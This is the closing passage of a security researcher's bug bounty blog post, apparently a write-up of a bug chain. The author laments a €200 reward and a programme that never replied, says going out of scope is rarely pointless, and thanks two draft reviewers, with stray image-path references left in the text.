Unfortunately, the gnarliest bug chains don’t always turn out to be lucrative. For my report, I only got the princely sum of €200. And despite my repeated calls for a justification, the programme remained dead silent. You won’t be surprised to learn that I have no plans to spend any more time on that programme until they reassess their reward policy.

Ultimately, knowledge is its own reward, I suppose. If anything, this bug chain reinforced my belief that going out of scope is hardly ever a pointless exercise.


Thanks torenniepak and Tara Cooke, who both kindly agreed toreview an early draft of this post.